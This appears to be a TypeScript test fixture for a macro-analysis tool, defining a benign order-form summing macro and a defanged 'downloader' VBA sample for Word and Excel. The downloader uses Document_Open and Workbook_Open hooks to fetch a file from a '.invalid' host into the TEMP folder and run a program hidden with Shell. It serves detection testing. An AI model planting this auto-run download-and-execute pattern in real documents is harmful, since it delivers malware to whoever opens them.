import type { ModuleParts } from '../../../test/builders/vba';
import type { Macro } from './scenario';

/** Harmless by construction: the program does not exist, the host ends in .invalid, the other macro adds up numbers. */
export const macros: Readonly<
  Record<Macro, { readonly word: readonly ModuleParts[]; readonly excel: readonly ModuleParts[] }>
> = {
  downloader: downloader(),
  bookkeeping: bookkeeping(),
};

function downloader(): { word: readonly ModuleParts[]; excel: readonly ModuleParts[] } {
  const fetch: ModuleParts = {
    name: 'Module1',
    kind: 'standard',
    source: `Public Sub FetchIt()
Dim address As String
Dim place As String
address = "http://" & "files" & ".invalid/" & "notreal"
place = Environ("TEMP") & "\\notreal" & ".exe"
Set request = CreateObject("MSXML2.XMLHTTP")
request.Open "GET", address, False
request.Send
Shell "notreal.exe " & place, vbHide
End Sub
`,
  };
  return {
    word: [
      { name: 'ThisDocument', kind: 'document', source: 'Private Sub Document_Open()\nFetchIt\nEnd Sub\n' },
      fetch,
    ],
    excel: [
      { name: 'ThisWorkbook', kind: 'document', source: 'Private Sub Workbook_Open()\nFetchIt\nEnd Sub\n' },
      fetch,
    ],
  };
}

function bookkeeping(): { word: readonly ModuleParts[]; excel: readonly ModuleParts[] } {
  const sum: ModuleParts = {
    name: 'Module1',
    kind: 'standard',
    source: `' Adds up the quantities of the order form.
Public Sub AddUp_Click()
Dim line As Long
Dim total As Double
For line = 2 To 40
total = total + Worksheets(1).Cells(line, 2).Value * Worksheets(1).Cells(line, 3).Value
Next line
Worksheets(1).Range("C42").Value = total
MsgBox "Total: " & Format(total, "#,##0")
End Sub
`,
  };
  return {
    word: [{ name: 'ThisDocument', kind: 'document', source: '' }, sum],
    excel: [{ name: 'ThisWorkbook', kind: 'document', source: '' }, sum],
  };
}
